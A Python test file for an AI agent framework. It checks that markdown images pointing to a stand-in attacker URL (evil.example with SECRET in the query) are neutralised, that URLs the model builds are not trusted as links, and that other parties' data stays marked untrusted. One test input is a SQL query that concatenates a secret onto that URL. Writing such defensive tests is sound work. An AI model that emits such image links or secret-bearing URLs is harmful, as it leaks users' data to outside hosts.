"""Images and links where activities store what models and people wrote."""

import json
from pathlib import Path

import pytest

from activities.agent.grounds import Grounds, _add
from activities.contracts.run_contracts import AdoptInput
from activities.files.file_cache import FileCache
from activities.replies.agent_story import ToolUse
from activities.teams.team_files import TeamFiles
from activities.teams.toolbox import Toolbox, open_toolbox
from activities.tools.tool import Arguments, Tool
from temporal_supervisor.supervision.contract.result import SubtaskReport
from temporal_supervisor.supervision.contract.team import ToolEntry
from temporal_supervisor.supervision.results.answer import findings_as_answer
from tests.activity.supervising import Desk
from tests.activity.test_synthesis import synthesize
from tests.scripted_model import answer
from tests.unit.shapes import FINDING

EVIL = "https://evil.example/?q=SECRET"
IMAGE = f"![x]({EVIL})"
SHOWN = "[image: evil.example]"


async def test_an_adopted_finding_shows_no_image_and_keeps_a_persons_links(desk: Desk) -> None:
    adopted = AdoptInput(run=await desk.run_ref(), text_ref=await desk.put("finding", f"{IMAGE} {EVIL}"))
    made = await desk.do(desk.run_activities().adopt_finding, adopted)
    assert made.text == await desk.read(made.ref) == f"{SHOWN} {EVIL}"


async def test_the_fields_of_an_answer_hold_no_image(desk: Desk) -> None:
    schema = '{"type": "object", "properties": {"note": {"type": "string"}}, "required": ["note"]}'
    reply = await synthesize(desk, answer("Pears.", answer_json={"note": f"{IMAGE} {EVIL}"}), schema=schema)
    assert reply.answer.as_json == {"note": f"{SHOWN} {EVIL}"}


def test_findings_in_place_of_an_answer_show_no_image() -> None:
    report = SubtaskReport(id="t1", finding=FINDING.model_copy(update={"summary": IMAGE}))
    assert IMAGE not in findings_as_answer([report], "why")
    assert SHOWN in findings_as_answer([report], "why")


@pytest.fixture
async def toolbox(tmp_path: Path) -> Toolbox:
    (tmp_path / "pears.csv").write_text("name\nx\n")
    entry = ToolEntry(name="query_data", uses="sql_query", options={"tables": "*.csv"})
    opened, problems = await open_toolbox([entry], tmp_path, [], FileCache(tmp_path / "cache"))
    assert problems == []
    return Toolbox([*opened.tools_named(["query_data"]), Tool("search", "Searches.", Arguments, lambda *_: None)])


@pytest.mark.parametrize(
    ("tool", "arguments", "linked", "linked_after_untrusted"),
    [
        ("search", {"words": "pears"}, True, True),
        ("search", {"words": f"pears {EVIL}"}, False, False),  # it repeats what the model wrote
        ("query_data", {"sql": "SELECT 'https://' || 'evil.example/?q=' || secret"}, True, False),
    ],
)
async def test_a_url_in_an_output_is_a_link_unless_the_model_made_it(
    toolbox: Toolbox, tool: str, arguments: dict[str, str], linked: bool, linked_after_untrusted: bool
) -> None:
    async def keep(text: str) -> str:
        return "ref"

    grounds = Grounds()
    await _add(grounds, ToolUse(tool, json.dumps(arguments), f"found {EVIL}", "ref"), toolbox, keep)
    assert (EVIL in grounds.links(untrusted=False)) is linked
    assert (EVIL in grounds.links(untrusted=True)) is linked_after_untrusted


async def test_data_of_others_are_untrusted_also_to_who_loads_the_team_later(desk: Desk) -> None:
    team = desk.write_orchard()
    ref, saved = await desk.teams.save("run", team, ["m"], data_from_others=True)
    for loaded in (saved, await desk.teams.load(ref)):
        assert loaded.toolbox.labels_of_data().untrusted == "data in the brief"
        calls = [{"name": "query_data", "input": {"sql": "SELECT 1"}}]
        assert (
            loaded.toolbox.labels_of(loaded.team.role("counter"), calls, "t1").untrusted == "query_data SELECT 1 in t1"
        )
    assert await desk.teams.catalogue(ref) == "", "the planner sees no names of theirs"
    assert (await TeamFiles([desk.teams_folder]).load(team)).toolbox.labels_of_data().untrusted == ""
